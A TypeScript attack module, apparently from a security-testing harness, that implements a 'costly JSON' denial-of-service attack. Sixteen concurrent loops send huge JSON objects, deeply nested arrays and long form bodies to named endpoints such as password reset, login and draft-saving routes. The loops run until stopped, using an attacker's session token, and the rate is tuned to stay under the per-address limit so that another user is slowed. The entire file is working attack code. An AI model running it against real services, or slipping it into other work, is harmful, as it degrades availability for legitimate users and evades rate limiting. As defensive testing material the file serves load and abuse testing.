import { Outcomes, type TimedAttack } from './timed-attack';

/** Requests at once, below the edge's limit for one address, which the other user shares. */
const atOnce = 16;

const objectOf = (keys: number) => `{${Array.from({ length: keys }, (_, at) => `"key${at}":1`).join(',')}}`;
const nested = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;

/** Calls, with and without a session, whose JSON takes long to make or to look through. */
const bodies = [
  { path: '/users/passwordReset', method: 'POST', body: objectOf(500_000) },
  { path: '/users/passwordReset', method: 'POST', body: objectOf(1_300) },
  { path: '/users/passwordReset', method: 'POST', body: nested(500_000) },
  { path: '/nowhere', method: 'POST', body: objectOf(500_000) },
  { path: '/login', method: 'POST', form: true, body: 'a=&'.repeat(10_000) },
  { path: '/api/addReduces/draft', method: 'PUT', body: objectOf(500_000) },
  { path: '/api/addReduces/draft', method: 'PUT', body: nested(500_000) },
  { path: '/api/insures/checkPersons', method: 'POST', body: `{"rows":[${'{},'.repeat(400_000)}{}]}` },
];

/** Sends them until the end, several at once. */
export const costlyJson: TimedAttack = {
  name: 'costly JSON',
  async begin({ base, attacker: { token } }) {
    const outcomes = new Outcomes();
    const over = new AbortController();
    const sender = async (from: number) => {
      for (let index = from; !over.signal.aborted; index += 1) {
        const { path, method, body, form } = bodies[index % bodies.length] ?? {};
        const type = form ? 'application/x-www-form-urlencoded' : 'application/json';
        const headers = { Token: token, 'Content-Type': type };
        const status = await fetch(`${base}/prod-api${path}`, { method, headers, body })
          .then((reply) => reply.arrayBuffer().then(() => String(reply.status)))
          .catch(() => 'closed');
        outcomes.add(status);
      }
    };
    for (let at = 0; at < atOnce; at += 1) void sender(at);
    return () => {
      over.abort();
      return String(outcomes);
    };
  },
};
